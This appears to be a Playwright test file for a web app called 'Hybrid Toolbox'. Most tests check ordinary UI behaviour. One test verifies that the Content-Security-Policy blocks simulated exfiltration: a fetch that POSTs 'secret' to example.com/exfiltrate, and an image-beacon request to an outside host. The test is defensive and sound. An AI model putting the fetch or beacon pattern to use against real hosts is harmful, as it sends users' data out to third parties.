import { test, expect, screenshot } from './fixtures.ts';
import { pathToFileURL } from 'node:url';
import { resolve } from 'node:path';
import { existsSync, readdirSync } from 'node:fs';

/** The tools the build registers: every folder under src/tools with an index.ts. */
const toolIds = readdirSync('src/tools', { withFileTypes: true })
  .filter((d) => d.isDirectory() && existsSync(`src/tools/${d.name}/index.ts`))
  .map((d) => d.name);

test('home lists every tool with a card and filters them', async ({ page }) => {
  await page.goto('./');
  await expect(page.getByRole('heading', { level: 1, name: 'Hybrid Toolbox' })).toBeVisible();
  const cards = page.getByRole('list', { name: 'Tools' }).getByRole('link');
  await expect(cards).toHaveCount(toolIds.length);
  await page.getByLabel('Filter tools').fill('zzzz-nothing');
  await expect(page.getByText('No tool matches')).toBeVisible();
  await screenshot(page, 'home-filtered-empty');
  await page.getByLabel('Filter tools').fill('');
  await screenshot(page, 'home');
});

test('Ctrl+K opens the palette and Enter opens the chosen tool', async ({ page }) => {
  await page.goto('./');
  await page.keyboard.press('Control+k');
  const search = page.getByRole('dialog').getByRole('searchbox');
  await expect(search).toBeFocused();
  await search.fill('DMARC');
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL(/#\/dmarc/);
  await expect(page.getByRole('dialog')).toHaveCount(0);
});

test('an unknown route says so instead of a blank page', async ({ page }) => {
  await page.goto('./#/no-such-tool');
  await expect(page.getByRole('heading', { name: /No tool called/ })).toBeVisible();
});

test('theme toggle cycles system → light → dark and is remembered', async ({ page }) => {
  await page.goto('./');
  const toggle = page.getByRole('button', { name: /^Theme:/ });
  await expect(toggle).toHaveAccessibleName('Theme: system');
  await toggle.click();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'light');
  await toggle.click();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await screenshot(page, 'home-dark');
  await page.reload();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
});

test('the Content-Security-Policy blocks requests to another origin', async ({ page }) => {
  await page.goto('./');
  await page.evaluate(() => {
    const w = window as unknown as { blocked: string[] };
    w.blocked = [];
    document.addEventListener('securitypolicyviolation', (e) => w.blocked.push(e.blockedURI));
  });
  const fetchOutcome = await page.evaluate(() =>
    fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' }).then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(fetchOutcome).toBe('refused');
  // An image beacon is the classic way around fetch rules; img-src allows only self and data:.
  await page.evaluate(() => {
    new Image().src = 'https://example.org/pixel.gif';
  });
  // The header and the meta tag carry the same policy; each reports the violation.
  await expect
    .poll(() => page.evaluate(() => [...new Set((window as unknown as { blocked: string[] }).blocked)]))
    .toEqual(['https://example.com/exfiltrate', 'https://example.org/pixel.gif']);
});

test('the single-file build works opened from file://', async ({ browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  await page.goto(pathToFileURL(resolve(process.env.HT_DIST ?? 'dist', 'hybrid-toolbox.html')).href);
  await expect(page.getByRole('heading', { level: 1, name: 'Hybrid Toolbox' })).toBeVisible();
  expect(errors).toEqual([]);
  await context.close();
});

test('on a phone the search button shows an icon and "Search", not only "Ctrl K"', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto('./');
  const search = page.locator('header .search');
  await expect(search).toHaveAccessibleName('Search');
  await expect(search.locator('svg')).toBeVisible();
  await expect(search.locator('kbd')).toBeHidden();
  await page.setViewportSize({ width: 1440, height: 900 });
  await expect(search).toHaveAccessibleName('Search tools Ctrl K');
});

test('a result table uses the width of the page', async ({ page }) => {
  await page.setViewportSize({ width: 1440, height: 900 });
  await page.goto('./#/immutable-id');
  await page.getByRole('button', { name: 'Try with sample data' }).click();
  const table = page.getByRole('table', { name: 'Converted IDs' });
  await expect(table).toBeVisible();
  // The page's own padding either side is all that is left over.
  expect((await table.boundingBox())!.width).toBeGreaterThanOrEqual(1440 - 60);
});
